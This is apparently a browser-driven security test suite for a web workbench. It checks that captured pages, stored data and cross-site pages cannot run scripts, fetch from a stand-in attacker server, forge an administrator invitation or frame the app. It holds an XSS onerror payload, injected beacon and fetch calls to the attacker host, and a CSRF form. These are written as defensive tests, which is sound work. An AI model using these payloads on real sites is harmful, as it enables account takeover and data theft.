"""What happens in a real browser: nothing of captured pages or data runs, nothing is fetched, no page elsewhere can write or frame."""

import contextlib
import hashlib
import http.server
import socket
import threading

from playwright.sync_api import sync_playwright

from . import attack, held


class Elsewhere(contextlib.AbstractContextManager):
    """A server of the attacker's, which notes connections and requests, and serves one page."""

    def __init__(self):
        self.hits, self.page = [], "<!doctype html>"
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                outer.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(outer.page.encode())

            do_POST = do_GET

            def log_message(self, *arguments):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def __exit__(self, *exception):
        self.server.shutdown()
        self.server.server_close()


@contextlib.contextmanager
def browsing(field, name):
    """A page of a browser in which somebody is signed in; dialogs are counted."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        context = browser.new_context()
        context.add_cookies([{"name": "qamtu", "value": field.cookie(name), "url": field.base, "httpOnly": True, "sameSite": "Strict"}])
        page = context.new_page()
        page.dialogs = []
        page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
        yield page
        browser.close()


@attack
def captured_page_runs_and_fetches(field):
    """A captured page with scripts, refresh, forms, pictures, styles, frames, prefetch is opened by itself: nothing runs, goes, is fetched."""
    with browsing(field, "aigul") as page:
        page.goto(f"{field.base}/archived/{field.digest}")
        page.wait_for_timeout(1200)
        held(page.title() == "captured", f"a script ran: {page.title()}")
        page.click("#send", no_wait_after=True)
        page.click("#js", no_wait_after=True)
        page.wait_for_timeout(400)
        held(page.title() == "captured" and page.url.startswith(field.base), f"it went to {page.url}")
        held(not page.dialogs, "a dialog")
    held(not field.elsewhere.hits, f"fetched: {field.elsewhere.hits[:5]}")
    return "nothing ran, nothing fetched"


@attack
def captured_page_in_a_frame(field):
    """The same in a frame of a page of the workbench: it reaches neither the page around it nor another server."""
    with browsing(field, "aigul") as page:
        page.goto(f"{field.base}/keys")
        page.evaluate("path => { const frame = document.createElement('iframe'); frame.src = path; document.body.append(frame) }", f"/archived/{field.digest}")
        page.wait_for_timeout(1200)
        held(page.url == f"{field.base}/keys" and "Qamtu" in page.title(), f"{page.url} {page.title()}")
        held(page.evaluate("document.querySelector('iframe').contentDocument") is None, "the frame has the origin of the workbench")
    held(not field.elsewhere.hits, f"fetched: {field.elsewhere.hits[:5]}")
    return "kept apart"


@attack
def captured_page_opens_connections(field):
    """A captured page hints at servers (preconnect, dns-prefetch): the browser does not even connect.

    Weak: a browser that is steered by a test may not connect ahead for any page."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.settimeout(1.5)
        place = f"http://127.0.0.1:{listener.getsockname()[1]}"
        hints = f'<!doctype html><title>hints</title><link rel="preconnect" href="{place}"><link rel="dns-prefetch" href="{place}"><p>text'.encode()
        digest = hashlib.sha256(hints).hexdigest()
        (field.workspace / "evidence" / digest).write_bytes(hints)
        with browsing(field, "aigul") as page:
            page.goto(f"{field.base}/archived/{digest}")
            try:
                listener.accept()[0].close()
                held(False, "it connected")
            except TimeoutError:
                return "no connection"


@attack
def data_run_in_pages(field):
    """Pages whose titles, texts, notes, outlets, programmes, incidents are scripts, for every role: none runs, none fetches."""
    item = field.item(["bolat"], ["dana", "erlan"])
    note = f"<img src={field.elsewhere.base}/note onerror=alert(1)>"
    field.finish("bolat", item, field.record(field.attribution(note=note), note=note))
    visits = [("aigul", ["/", f"/code/{field.items('aigul')[0]}", "/code/tv-1", "/keys"]),
              ("dana", [f"/look/{item}", "/items?outlet=vlast&day=2023-03-18", "/items?outlet=khabar&day=2023-03-01", "/tables", "/tables/b1-web", "/incidents", "/progress", "/reliability"]),
              ("zarina", ["/people", "/log", "/codebook"])]
    count = 0
    for name, paths in visits:
        with browsing(field, name) as page:
            failures = []
            page.on("pageerror", lambda error: failures.append(str(error)))
            for path in paths:
                page.goto(field.base + path)
                page.wait_for_timeout(250)
                held(page.evaluate("typeof pwned") == "undefined" and not page.dialogs, f"{path}: a script ran")
                held(page.url == field.base + path, f"{path}: went to {page.url}")
                held(page.evaluate("document.querySelectorAll('[onerror],[onclick],[onload],[onmouseover]').length") == 0, f"{path}: markup of the data")
                count += 1
    held(not field.elsewhere.hits, f"fetched: {field.elsewhere.hits[:5]}")
    return f"{count} pages"


@attack
def scripts_beside_the_policy(field):
    """Inline scripts, eval, foreign scripts, pictures and connections are added to a page of the workbench: the policy stops them."""
    with browsing(field, "aigul") as page:
        page.goto(f"{field.base}/keys")
        page.evaluate(
            """base => {
              const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
              add('script', {textContent: 'window.pwned = 1'}); add('script', {src: base + '/script.js'});
              add('img', {src: base + '/image'}); add('iframe', {src: base + '/frame'}); add('div', {innerHTML: '<b onclick="window.pwned=1">x</b>'});
              document.querySelector('div:last-of-type b').click();
              fetch(base + '/fetch').catch(() => 0); new Image().src = base + '/beacon'; navigator.sendBeacon(base + '/beacon', 'x');
            }""", field.elsewhere.base)
        page.wait_for_timeout(500)
        held(page.evaluate("typeof pwned") == "undefined", "a script ran")
        held(page.evaluate("document.cookie") == "", "scripts see the cookie")
    held(not field.elsewhere.hits, f"fetched: {field.elsewhere.hits}")
    return "stopped"


@attack
def forms_of_another_page(field):
    """A page on another port, and one under another name, sends forms and fetches with the administrator's cookie: nobody is invited."""
    target = field.base + "/people/invite"
    field.elsewhere.page = f"""<!doctype html><form id="f" method="post" action="{target}"><input name="name" value="smuggled"><input name="role" value="administrator"></form>
      <script>fetch("{target}", {{method: "POST", mode: "no-cors", credentials: "include", headers: {{"Content-Type": "text/plain"}}, body: "name=smuggled&role=administrator"}}).catch(() => 0);
      fetch("{field.base}/api/settings", {{credentials: "include"}}).then(answer => answer.text()).then(text => document.title = "read: " + text).catch(() => 0);
      setTimeout(() => f.submit(), 300)</script>"""
    for base in [field.elsewhere.base, field.elsewhere.base.replace("127.0.0.1", "localhost")]:
        with browsing(field, "zarina") as page:
            page.goto(base)
            page.wait_for_timeout(250)
            held(not page.title().startswith("read"), "it reads answers")
            page.wait_for_timeout(700)
    field.elsewhere.hits.clear()
    held(not field.sql("SELECT 1 FROM account WHERE name = 'smuggled'"), "somebody was invited")
    return "nobody invited, nothing read"


@attack
def frames_around_the_workbench(field):
    """Another page frames the workbench to have its buttons clicked, and keeps hold of a window of it: neither works."""
    field.elsewhere.page = f'<!doctype html><iframe src="{field.base}/keys"></iframe>'
    with browsing(field, "aigul") as page:
        page.goto(field.elsewhere.base)
        page.wait_for_timeout(600)
        framed = [one for one in page.frames if one != page.main_frame]
        held(not any("Qamtu" in (one.content() or "") and "qamtu-csrf" in one.content() for one in framed), "framed")
        page.evaluate(f"w = open('{field.base}/keys'); 0")
        page.wait_for_timeout(1200)
        held(page.evaluate("w === null || w.closed"), "the opener keeps hold of the window")
    field.elsewhere.hits.clear()
    return "refused"
